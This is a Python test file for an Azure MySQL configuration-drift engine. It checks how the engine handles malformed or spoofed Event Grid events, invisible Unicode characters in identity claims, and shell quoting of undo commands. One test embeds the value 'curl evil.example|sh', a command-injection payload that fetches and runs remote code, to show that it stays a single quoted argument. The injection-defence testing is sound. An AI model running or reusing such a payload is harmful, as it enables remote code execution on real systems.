"""Hostile and broken input on the event path, through the local stack (SDK writes, the stand-in's
events, Azurite, the Teams and Graph receivers).

- Broken or huge fields in an event cost that field, not the change: the state comes from ARM.
- The subject decides which subscription an event is about, not `data.subscriptionId`.
- Invisible format characters never reach a card or a mail; undo commands quote every outside value.
"""

from __future__ import annotations

import json
import logging
import shutil
import subprocess
import unicodedata
from typing import Any

import pytest
from azure.mgmt.mysqlflexibleservers import MySQLManagementClient

from drift.engine import DriftEngine
from drift.local import writes
from drift.local.arm import ArmStandIn
from drift.local.credential import LocalCredential
from drift.local.receivers import GraphReceiver, TeamsReceiver
from drift.local.tls import LocalCA
from notifiers.graph import GraphMailNotifier
from tests.conftest import CARELESS, GROUP, SUBSCRIPTION
from tests.helpers import add_rule, create_compliant_server, server_id, set_parameter

UPN = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"
UNWATCHED = "0a1b2c3d-0000-4000-8000-0000000000ff"
INVISIBLE = "\u061c\ufeff\u2060\u00ad\u202e\u200d"


def history(engine: DriftEngine, name: str, subscription: str = SUBSCRIPTION) -> list[Any]:
    return engine.store.history(server_id=writes.server_id(subscription, GROUP, name))


def client(arm: ArmStandIn, ca: LocalCA, subscription: str, claims: dict[str, str]) -> Any:
    return MySQLManagementClient(LocalCredential(claims), subscription, base_url=arm.url,
                                 connection_verify=str(ca.ca_bundle))


# --- row 6: broken fields --------------------------------------------------------------------

def test_an_event_with_fields_of_the_wrong_type_or_40k_characters_still_records_the_change_once(
    engine: DriftEngine, sdk: Any, arm: ArmStandIn, teams: TeamsReceiver, server_name: str,
    caplog: pytest.LogCaptureFixture,
) -> None:
    create_compliant_server(sdk, server_name)
    engine.handle_many(arm.drain_events())
    set_parameter(sdk, server_name, "aad_auth_only", "OFF")
    [event] = arm.drain_events()
    data = event["data"]
    data["subscriptionId"], data["tenantId"], data["correlationId"] = 12345, {"id": "x"}, ["one", "two"]
    data["claims"]["name"] = "N" * 40_000
    data["claims"]["upn"] = "u" * 33_000 + "@contoso.example"
    data["httpRequest"]["clientIpAddress"] = "9" * 40_000

    with caplog.at_level(logging.WARNING, logger="drift.events"):
        [outcome] = engine.handle_many([event])  # raises RetryableFailure if anything failed

    assert outcome.status == "recorded" and outcome.reads == 1
    [row] = history(engine, server_name)
    assert (row.setting, row.before, row.after, row.alert_status) == ("aad_auth_only", "ON", "OFF", "sent")
    assert row.correlation_id is None
    assert len(row.changed_by) <= 600 and row.changed_by.startswith("NNN")
    assert row.client_ip is not None and len(row.client_ip) <= 64
    assert len(teams.messages()) == 1
    assert "subscriptionId is a int, not a string: dropped" in caplog.text
    assert "claim name is 40000 characters: cut to 256" in caplog.text

    [again] = engine.handle_many([event])  # Event Grid's redelivery finds nothing new
    assert again.status == "unchanged" and len(history(engine, server_name)) == 1


def test_an_event_whose_tenant_is_not_a_string_is_judged_by_its_watched_subject_or_else_refused(
    engine: DriftEngine, sdk: Any, arm: ArmStandIn, server_name: str,
) -> None:
    create_compliant_server(sdk, server_name)
    [event, *_] = arm.drain_events()
    engine.tenant_id = str(event["data"]["tenantId"]).lower()
    event["data"]["tenantId"] = ["not", "a", "string"]
    arm.reset_stats()
    [outcome] = engine.handle_many([event])
    assert outcome.status == "refused" and arm.stats.reads == 0, "no watched subscription vouches for it"

    engine.subscriptions = {SUBSCRIPTION}
    [outcome] = engine.handle_many([event])
    assert outcome.status != "refused" and engine.store.load(server_id(server_name)).baselines, (
        "the tenant is dropped; the subject's watched subscription decides")
    wrong = {**event, "data": {**event["data"], "tenantId": "22222222-2222-2222-2222-222222222222"}}
    assert engine.handle_many([wrong])[0].status == "refused", "a tenant that is named and wrong still refuses"


def test_an_event_whose_subject_is_too_long_for_a_table_key_is_malformed_not_retried(
    engine: DriftEngine, sdk: Any, arm: ArmStandIn, server_name: str,
) -> None:
    create_compliant_server(sdk, server_name)
    [event, *_] = arm.drain_events()
    event["subject"] = event["data"]["resourceUri"] = server_id(server_name).replace(GROUP, "g" * 1_100)
    [outcome] = engine.handle_many([event])
    assert outcome.status == "malformed" and "no ARM id of a server" in outcome.detail


# --- row 7: the subject decides --------------------------------------------------------------

def test_an_event_about_a_server_in_an_unwatched_subscription_is_refused_whatever_its_data_claims(
    engine: DriftEngine, arm: ArmStandIn, ca: LocalCA, teams: TeamsReceiver, server_name: str,
    caplog: pytest.LogCaptureFixture,
) -> None:
    engine.subscriptions = {SUBSCRIPTION}
    writes.create_server(client(arm, ca, UNWATCHED, CARELESS), GROUP, server_name, public_access="Enabled")
    [event] = arm.drain_events()
    assert event["subject"].startswith(f"/subscriptions/{UNWATCHED}/")
    event["data"]["subscriptionId"] = SUBSCRIPTION  # a watched one
    arm.reset_stats()

    with caplog.at_level(logging.WARNING):
        [outcome] = engine.handle_many([event])

    assert outcome.status == "refused" and UNWATCHED in outcome.detail
    assert "refused event" in caplog.text
    assert arm.stats.reads == 0 and history(engine, server_name, UNWATCHED) == [] and teams.messages() == []


def test_an_event_about_a_watched_server_is_handled_even_if_its_data_names_another_subscription(
    engine: DriftEngine, sdk: Any, arm: ArmStandIn, server_name: str, caplog: pytest.LogCaptureFixture,
) -> None:
    engine.subscriptions = {SUBSCRIPTION}
    create_compliant_server(sdk, server_name)
    events = arm.drain_events()
    for event in events:
        event["data"]["subscriptionId"] = UNWATCHED
    with caplog.at_level(logging.WARNING):
        outcomes = engine.handle_many(events)
    assert "refused" not in {o.status for o in outcomes}
    assert engine.store.load(server_id(server_name)).baselines, "its posture check ran and set baselines"
    assert "differs from the subject's" in caplog.text


# --- row 16: invisible characters and undo commands ------------------------------------------

def invisible_in(value: Any) -> list[str]:
    """Every invisible format character (Unicode Cf) anywhere in a JSON document's strings."""
    text = json.dumps(value, ensure_ascii=False)
    return [f"U+{ord(ch):04X}" for ch in text if unicodedata.category(ch) == "Cf"]


def test_invisible_characters_in_names_and_claims_never_reach_cards_or_mails_and_undo_commands_are_quoted(
    engine: DriftEngine, sdk: Any, arm: ArmStandIn, ca: LocalCA, teams: TeamsReceiver, graph: GraphReceiver,
    server_name: str,
) -> None:
    engine.notifiers.append(GraphMailNotifier(LocalCredential(), "drift@contoso.example", ["secops@contoso.example"],
                                              graph_endpoint=graph.url))
    create_compliant_server(sdk, server_name, public_access="Enabled")
    engine.handle_many(arm.drain_events())
    teams.clear(), graph.clear()  # the posture card of the new server
    hostile = client(arm, ca, SUBSCRIPTION, {**CARELESS, "name": f"Casey{INVISIBLE}Admin",
                                             "upn": f"casey{INVISIBLE}@contoso.example"})
    rule = "allow-all_0"  # ARM refuses anything else in a rule name (the spec's pattern): the claims carry it
    add_rule(hostile, server_name, rule, "0.0.0.0", "255.255.255.255")
    engine.handle_many(arm.drain_events())

    row = history(engine, server_name)[0]
    assert (row.setting, row.severity) == ("firewall_rules", "critical")
    [card] = teams.messages()
    [mail] = graph.messages()
    assert invisible_in(card) == [] and invisible_in(mail) == []
    assert "CaseyAdmin" in json.dumps(card) and "CaseyAdmin" in json.dumps(mail)
    assert row.remediation == (f"az mysql flexible-server firewall-rule delete -g {GROUP} -n {server_name} "
                               f"--rule-name {rule} --yes")


def test_every_value_from_outside_is_one_shell_word_in_an_undo_command() -> None:
    """Resource groups allow parentheses and letters of any script; names made elsewhere may carry anything."""
    from drift.armid import mysql_server_ref
    from drift.engine import remediation

    group, target = "rg-(prod).ü", f"allow{INVISIBLE}all;curl evil.example|sh"
    ref = mysql_server_ref(f"/subscriptions/{SUBSCRIPTION}/resourceGroups/{group}/providers/"
                           "Microsoft.DBforMySQL/flexibleServers/db-1")
    assert ref is not None
    command = remediation("echo {resource_group} {server} {target}", ref, (target,))
    assert command.endswith(" $'allow\\u061c\\ufeff\\u2060\\u00ad\\u202e\\u200dall;curl evil.example|sh'")
    if shutil.which("bash"):  # the shell turns each back into exactly one argument
        out = subprocess.run(["bash", "-c", command.replace("echo", "printf '%s\\n'", 1)], capture_output=True,
                             text=True, check=True)
        assert out.stdout.splitlines() == [group, "db-1", target]
